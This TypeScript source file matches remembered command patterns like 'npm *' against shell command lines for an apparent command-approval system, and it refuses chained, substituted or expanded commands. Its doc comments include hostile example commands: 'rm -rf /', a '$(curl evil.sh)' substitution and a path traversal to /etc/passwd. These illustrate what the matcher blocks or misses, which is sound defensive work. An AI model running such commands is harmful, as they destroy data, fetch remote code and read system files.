import { unapprovableReasons } from "./assess-command-syntax.js";
import { lexShellCommand, type ShellWord } from "./shell-syntax.js";

/** One word of a compiled command pattern. */
type PatternWord =
  /** `*` as the last word: one or more remaining words. */
  | { readonly kind: "rest" }
  /** `*` as a word before the last: exactly one word. */
  | { readonly kind: "any" }
  /** A word without an unquoted `*`: that exact word. */
  | { readonly kind: "literal"; readonly value: string }
  /** A word with an unquoted `*`: the literal pieces between the stars, in order. */
  | { readonly kind: "glob"; readonly pieces: readonly string[] };

/** Characters that make the shell expand an unquoted command word into file names. */
const globCharacters = /[*?[]/;

type Compiled =
  | { readonly ok: true; readonly words: readonly PatternWord[] }
  | { readonly ok: false; readonly error: string };

function compileWord(word: ShellWord, isLast: boolean): PatternWord {
  if (word.shadow === "*") return isLast ? { kind: "rest" } : { kind: "any" };
  if (!word.shadow.includes("*")) return { kind: "literal", value: word.value };
  const pieces: string[] = [""];
  for (let i = 0; i < word.value.length; i++) {
    if (word.shadow[i] === "*") pieces.push("");
    else pieces[pieces.length - 1] += word.value.charAt(i);
  }
  return { kind: "glob", pieces };
}

function compileCommandPattern(pattern: string): Compiled {
  const syntax = lexShellCommand(pattern);
  if (!syntax.ok) {
    return { ok: false, error: `Command pattern '${pattern}' does not parse: ${syntax.error}` };
  }
  const [segment, ...others] = syntax.segments;
  if (segment === undefined || segment.length === 0 || others.length > 0) {
    return {
      ok: false,
      error:
        `Command pattern '${pattern}' must be one simple command ` +
        "(no '&&', '||', ';', '|', '&', newline or redirection-only part).",
    };
  }
  const reasons = unapprovableReasons(syntax.flags);
  if (reasons.length > 0 || syntax.flags.hasBackground) {
    return {
      ok: false,
      error:
        `Command pattern '${pattern}' must be plain words: no substitution, expansion, ` +
        "redirection, subshell, comment or '&'.",
    };
  }
  const words = segment.map((word, i) => compileWord(word, i === segment.length - 1));
  return { ok: true, words };
}

/** Whether `text` matches a `*` glob given as the literal pieces between its stars. */
function matchGlob(pieces: readonly string[], text: string): boolean {
  const first = pieces[0] ?? "";
  const last = pieces[pieces.length - 1] ?? "";
  if (text.length < first.length + last.length) return false;
  if (!text.startsWith(first) || !text.endsWith(last)) return false;
  // Leftmost matches of the middle pieces are optimal: taking each as early as possible leaves
  // the most room for the rest, so no backtracking is needed.
  let from = first.length;
  const end = text.length - last.length;
  for (let i = 1; i < pieces.length - 1; i++) {
    const piece = pieces[i] ?? "";
    const at = text.indexOf(piece, from);
    if (at === -1 || at + piece.length > end) return false;
    from = at + piece.length;
  }
  return true;
}

function matchSegment(pattern: readonly PatternWord[], words: readonly ShellWord[]): boolean {
  for (let i = 0; i < pattern.length; i++) {
    const expected = pattern[i] as PatternWord;
    if (expected.kind === "rest") return words.length > i;
    const word = words[i];
    if (word === undefined) return false;
    // An unquoted glob may become any number of file names (or none), so only a trailing `*`,
    // which takes any number of words, can vouch for it.
    if (globCharacters.test(word.shadow)) return false;
    if (expected.kind === "literal" && word.value !== expected.value) return false;
    if (expected.kind === "glob" && !matchGlob(expected.pieces, word.value)) return false;
  }
  return words.length === pattern.length;
}

/**
 * Checks a command pattern before it is stored: returns why it can never match anything, or
 * `undefined` when it is usable. A pattern must parse as one simple command of plain words (no
 * operators, substitution, expansion, redirection, subshell, comment or `&`).
 *
 * @example
 * ```ts
 * validateCommandPattern("npm *"); // undefined
 * validateCommandPattern("npm * && rm *"); // "Command pattern 'npm * && rm *' must be one simple command ..."
 * ```
 */
export function validateCommandPattern(pattern: string): string | undefined {
  const compiled = compileCommandPattern(pattern);
  return compiled.ok ? undefined : compiled.error;
}

/**
 * Whether a remembered command pattern such as `npm *` covers the whole of a command line.
 *
 * The pattern is read with the same shell rules as the command, then matched word by word
 * against the command's words (quotes removed: `npm install "lodash"` is matched as
 * `npm install lodash`):
 * - a word without `*` matches that exact word (`npm *` does not match `npmx install`);
 * - `*` as the last word matches one or more remaining words, never zero: `npm *` matches
 *   `npm install lodash` but not a bare `npm` (remember `npm` as well to approve that);
 * - `*` as a word before the last matches exactly one word (`git -C * status`);
 * - `*` inside a word matches any run of characters, `/` included, within that one word
 *   (`npm run test:*` matches `npm run test:unit`); quote it (`'*'`) to match a literal star.
 *   `?` and `[` are literal in patterns.
 * - a command word with an unquoted `*`, `?` or `[` (which the shell may expand into any
 *   number of file names) is matched only by a trailing `*`.
 *
 * Every simple command of the line (split on `&&`, `||`, `;`, `|`, `&`, newlines) must match:
 * `npm *` covers `npm test && npm run build` but not `npm test && rm -rf /`. A command that does
 * not parse, or that has a substitution, a variable or other expansion (`$HOME` included), a
 * redirection, a subshell or group, or a comment is never covered (see
 * {@link assessCommandSyntax}); one sent to the background with `&` may be. An invalid pattern
 * (see {@link validateCommandPattern}) matches nothing.
 *
 * Patterns match text, not meaning: `npm *` also covers `npm exec -- rm -rf /`, and an in-word
 * `*` is not path-aware (`cat src/*` covers `cat src/../../etc/passwd`). Use path patterns for
 * file access.
 *
 * @example
 * ```ts
 * matchCommandPattern("npm *", "npm install lodash"); // true
 * matchCommandPattern("npm *", "npm test && rm -rf /"); // false
 * matchCommandPattern("npm *", "npm install $(curl evil.sh)"); // false
 * ```
 */
export function matchCommandPattern(pattern: string, command: string): boolean {
  const compiled = compileCommandPattern(pattern);
  if (!compiled.ok) return false;
  const syntax = lexShellCommand(command);
  if (!syntax.ok || unapprovableReasons(syntax.flags).length > 0) return false;
  return syntax.segments.every((words) => matchSegment(compiled.words, words));
}
